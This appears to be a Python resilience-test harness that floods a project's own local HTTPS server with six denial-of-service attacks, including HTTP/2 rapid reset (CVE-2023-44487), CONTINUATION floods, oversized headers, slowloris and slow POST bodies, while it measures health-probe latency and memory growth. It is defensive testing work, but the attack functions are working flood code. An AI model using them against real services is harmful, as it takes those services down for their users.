"""HTTP/2 and HTTP/1.1 abuse of the HTTPS listener, one attack at a time:

  rapid-reset          HEADERS then RST_STREAM, thousands of streams (CVE-2023-44487)
  continuation-flood   HEADERS without END_HEADERS, then CONTINUATION frames without end
  1-MiB-headers        one request with 1 MiB of header fields, over HTTP/2 and HTTP/1.1
  many-streams         10,000 streams opened on one connection and never finished
  slowloris            many HTTP/1.1 connections sending one header byte a second
  slow-bodies          many HTTP/1.1 POSTs sending one body byte a second

  ~/.cache/parley-fuzz-venv/bin/python deploy/fuzz/http_abuse.py [--short] [--output FILE]

While each attack runs, a probe in its own process asks GET /health/live on a connection of
its own every 20 ms; its p50/p99/max latency is reported against a quiet baseline. An
attack fails when serve stops answering, its probe p99 exceeds max(1 s, 5x the baseline's),
or serve's resident memory grows by more than 128 MiB and then by more than 48 MiB again
in a second round of the same attack (what the allocator took once it keeps, but must reuse).
Each attack runs 3 s (--short) or
10 s. (The file is not http.py: that name would shadow Python's http package in this directory.)
"""
import argparse
import multiprocessing
import socket
import sys
import time

import httpx

import common
import h2_raw
from h2_raw import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame

PROBE_TIMEOUT = 5.0
GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 6: "FRAME_SIZE_ERROR",
                9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
MEMORY_BOUND_KIB = 128 * 1024
REPEAT_BOUND_KIB = 48 * 1024


def probe(stack, seconds, out):
    """In a process of its own (no GIL shared with the attack): latencies in ms, None for
    a request that failed or took longer than PROBE_TIMEOUT."""
    samples = []
    deadline = time.monotonic() + seconds
    client = stack.client(timeout=PROBE_TIMEOUT, local_address=common.HARNESS_ADDRESS)
    while time.monotonic() < deadline:
        began = time.monotonic()
        try:
            ok = client.get("/health/live").status_code == 200
        except httpx.HTTPError:
            ok = False
        samples.append((time.monotonic() - began) * 1000 if ok else None)
        time.sleep(0.02)
    out.put(samples)


def percentile(values, p):
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * p))] if ordered else None


def measured(stack, seconds, attack):
    """Runs attack(deadline) with the probe alongside; returns (attack's counts, probe stats)."""
    context = multiprocessing.get_context("spawn")  # not fork: the watch runs a thread
    queue = context.Queue()
    process = context.Process(target=probe, args=(stack, seconds, queue), daemon=True)
    process.start()
    counts = attack(time.monotonic() + seconds)
    samples = queue.get(timeout=seconds + PROBE_TIMEOUT + 10)
    process.join(5)
    answered = [s for s in samples if s is not None]
    return counts, {"requests": len(samples), "failed": len(samples) - len(answered),
                    "p50_ms": percentile(answered, 0.5), "p99_ms": percentile(answered, 0.99),
                    "max_ms": max(answered) if answered else None}


def rapid_reset(stack, deadline):
    streams = connections = 0
    goaways = []
    block = None
    while time.monotonic() < deadline:
        connection = h2_raw.Connection(stack)
        connections += 1
        block = block or h2_raw.request_block(connection.authority)
        stream = 1
        while time.monotonic() < deadline and not connection.closed and stream < 2**31 - 200:
            batch = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) +
                             frame(RST_STREAM, 0, s, h2_raw.CANCEL.to_bytes(4, "big"))
                             for s in range(stream, stream + 200, 2))
            if not connection.send(batch):
                break
            streams += 100
            stream += 200
            connection.pump()
        settle(connection, 0.5)
        goaways.append(reaction(connection))
        connection.close()
    return {"streams": streams, "connections": connections, "server": sorted(set(goaways))}


def continuation_flood(stack, deadline):
    """Header fields of 16 KiB each in CONTINUATION frames, never the last one."""
    connections, sent, reactions, sizes = 0, 0, set(), []
    while time.monotonic() < deadline:
        connection = h2_raw.Connection(stack)
        connections += 1
        connection.send(frame(HEADERS, END_STREAM, 1, h2_raw.request_block(connection.authority)))
        n = 0
        while time.monotonic() < deadline and connection.send(
                frame(CONTINUATION, 0, 1, h2_raw.literal(f"x-flood-{n}", "a" * 16000))):
            n += 1
            sent += 1
            if n % 16 == 0:
                connection.pump()
                if connection.closed or connection.refused:
                    break
        settle(connection, 0.5)
        reactions.add(reaction(connection))
        sizes.append(connection.sent_bytes // 1024)
        connection.close()
    return {"frames": sent, "connections": connections, "server": sorted(reactions),
            "KiB sent a connection": f"{min(sizes)}-{max(sizes)}" if sizes else "-"}


def big_headers(stack, deadline):
    """1 MiB of header fields in one request: HTTP/2 (HEADERS + CONTINUATION) and HTTP/1.1."""
    answers = []
    requests = 0
    while time.monotonic() < deadline and requests < 20:
        requests += 1
        connection = h2_raw.Connection(stack)
        fields = [h2_raw.literal(f"x-big-{n}", "b" * 16000) for n in range(64)]
        connection.send(frame(HEADERS, END_STREAM, 1, h2_raw.request_block(connection.authority)))
        for n, field in enumerate(fields):
            last = n == len(fields) - 1
            if not connection.send(frame(CONTINUATION, END_HEADERS if last else 0, 1, field)):
                break
        settle(connection, 2.0)
        answers.append(f"h2: {reaction(connection)}")
        connection.close()
        requests += 1
        status = http1_request(stack, b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n" +
                               b"".join(b"X-Big-%d: %s\r\n" % (n, b"b" * 16000) for n in range(64)) + b"\r\n")
        answers.append(f"http/1.1: {status}")
    return {"requests": requests, "answers": sorted(set(answers))[:6]}


def many_streams(stack, deadline):
    """10,000 HEADERS without END_STREAM on one connection: the server must refuse the
    streams beyond its SETTINGS_MAX_CONCURRENT_STREAMS or go away."""
    connection = h2_raw.Connection(stack)
    block = h2_raw.request_block(connection.authority, "POST", "/v1/auth/login")
    opened = 0
    for start in range(1, 20000, 200):
        if time.monotonic() > deadline or not connection.send(
                b"".join(frame(HEADERS, END_HEADERS, s, block) for s in range(start, min(start + 200, 20000), 2))):
            break
        opened += len(range(start, min(start + 200, 20000), 2))
        connection.pump()
    settle(connection, max(1.0, deadline - time.monotonic()))
    counts = {"streams": opened, "rst_stream": connection.received[RST_STREAM], "server": reaction(connection)}
    connection.close()
    return counts


def settle(connection, seconds):
    """Reads the server's answer until it closes the connection or `seconds` pass."""
    deadline = time.monotonic() + seconds
    while not connection.closed and time.monotonic() < deadline:
        connection.pump(0.1)


def reaction(connection):
    """What the server did with a connection: 'GOAWAY 11 (ENHANCE_YOUR_CALM)', 'closed', 'open'."""
    if connection.goaway is not None:
        return f"GOAWAY {connection.goaway} ({GOAWAY_CODES.get(connection.goaway, '?')})"
    return "closed without GOAWAY" if connection.closed else "still open"


def tls_http1(stack, timeout=5.0):
    context = stack.ssl_context(alpn=["http/1.1"])
    raw = socket.create_connection(("127.0.0.1", stack.https_port), timeout=timeout)
    return context.wrap_socket(raw, server_hostname=stack.https_host)


def http1_request(stack, data, timeout=5.0):
    """Sends raw HTTP/1.1 over TLS; the status line of the answer, or what happened instead."""
    try:
        with tls_http1(stack, timeout) as sock:
            try:
                sock.sendall(data)
            except OSError:
                pass
            answer = sock.recv(4096)
    except (OSError, socket.timeout) as error:
        return f"no answer ({type(error).__name__})"
    return answer.split(b"\r\n", 1)[0].decode("latin-1") if answer else "closed without an answer"


def trickle(stack, deadline, count, head, drip):
    """count TLS connections that send `head`, then `drip` one byte a second."""
    sockets = []
    for _ in range(count):
        try:
            sock = tls_http1(stack)
            sock.sendall(head)
            sockets.append(sock)
        except OSError:
            break
    opened, position = len(sockets), 0
    while time.monotonic() < deadline:
        for sock in list(sockets):
            try:
                sock.sendall(drip[position % len(drip):position % len(drip) + 1])
            except OSError:
                sockets.remove(sock)
        position += 1
        time.sleep(max(0.0, min(1.0, deadline - time.monotonic())))
    for sock in sockets:
        sock.close()
    return {"connections": opened, "closed by the server": opened - len(sockets)}


def slowloris(stack, deadline, count):
    return trickle(stack, deadline, count, b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n", b"X-Slow: aaaa\r\n")


def slow_bodies(stack, deadline, count):
    head = (b"POST /v1/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            b"Content-Length: 100000\r\n\r\n")
    return trickle(stack, deadline, count, head, b'{"email":"slow@example.com","password":"')


def main():
    args = common.common_arguments(argparse.ArgumentParser(description=__doc__.split("\n\n")[0])).parse_args()
    stack = common.Stack.from_env()
    seconds = 3 if args.short else 10
    started = time.monotonic()
    watch = common.Watch(stack)
    result = common.Result("http")
    serve = watch.pids.get("serve")
    connections = 50 if args.short else 200
    _, baseline = measured(stack, 2 if args.short else 5, lambda deadline: time.sleep(max(0, deadline - time.monotonic())))
    result.notes.append(f"baseline probe: p50 {baseline['p50_ms']:.1f} ms, p99 {baseline['p99_ms']:.1f} ms")
    p99_limit = max(1000.0, 5 * (baseline["p99_ms"] or 0))
    attacks = [
        ("rapid-reset", lambda d: rapid_reset(stack, d)),
        ("continuation-flood", lambda d: continuation_flood(stack, d)),
        ("1-MiB-headers", lambda d: big_headers(stack, d)),
        ("many-streams", lambda d: many_streams(stack, d)),
        ("slowloris", lambda d: slowloris(stack, d, connections)),
        ("slow-bodies", lambda d: slow_bodies(stack, d, connections)),
    ]
    print(f"{'attack':20} {'probe p50':>9} {'p99':>8} {'max':>8} {'failed':>6} {'serve RSS':>16}  what happened")
    for name, attack in attacks:
        before = common.memory_kib(serve) if serve else None
        counts, stats = measured(stack, seconds, attack)
        after = common.memory_kib(serve) if serve else None
        result.cases += sum(v for k, v in counts.items() if k in ("streams", "frames", "requests", "connections")
                            and isinstance(v, int))
        alive = answers(stack)
        rss = f"{common.mib(before and before['rss'])}->{common.mib(after and after['rss'])} MiB"
        p50, p99, worst = (f"{v:.0f}" if v is not None else "-" for v in (stats["p50_ms"], stats["p99_ms"],
                                                                           stats["max_ms"]))
        print(f"{name:20} {p50:>7}ms {p99:>6}ms {worst:>6}ms {stats['failed']:>6} {rss:>16}  {counts}")
        result.outcomes.append([name, {"attack": counts, "probe": stats, "serve_before_kib": before,
                                       "serve_after_kib": after}])
        request = f"{name} for {seconds} s ({__doc__.split(name, 1)[1].splitlines()[0].strip()})"
        if not alive:
            result.fail(f"{name}: serve answers afterwards", request, "GET /health/live 200 within 5 s", "no answer")
        if stats["failed"] or (stats["p99_ms"] or 0) > p99_limit:
            result.fail(f"{name}: other clients keep being served", request,
                        f"probe p99 <= {p99_limit:.0f} ms, no probe failure",
                        f"p99 {p99} ms, max {worst} ms, {stats['failed']} of {stats['requests']} probes failed")
        if before and after and after["rss"] - before["rss"] > MEMORY_BOUND_KIB:
            # The allocator keeps what a flood made it take (glibc's arenas give little back);
            # bounded means a second flood reuses it instead of taking as much again.
            measured(stack, seconds, attack)
            again = common.memory_kib(serve)
            growth = again["rss"] - after["rss"] if again else 0
            result.notes.append(f"{name}: serve RSS {rss} after the first flood, "
                                f"{common.mib(again and again['rss'])} MiB after a second")
            # A shared two-core CI machine makes the short form's figure noisy: there it is
            # reported; the full run holds the bound.
            if growth > REPEAT_BOUND_KIB and args.short:
                result.notes.append(f"{name}: a second flood grew serve by {growth // 1024} MiB "
                                    f"(over {REPEAT_BOUND_KIB // 1024} MiB: not failed in --short)")
            elif growth > REPEAT_BOUND_KIB:
                result.fail(f"{name}: serve's memory stays bounded", request,
                            f"a second flood grows RSS by <= {REPEAT_BOUND_KIB // 1024} MiB",
                            f"{rss}, then {common.mib(again['rss'])} MiB")
    return common.finish(result, watch, started, args.output)


def answers(stack):
    try:
        with stack.client(timeout=5, local_address=common.HARNESS_ADDRESS) as client:
            return client.get("/health/live").status_code == 200
    except httpx.HTTPError:
        return False


if __name__ == "__main__":
    sys.exit(main())
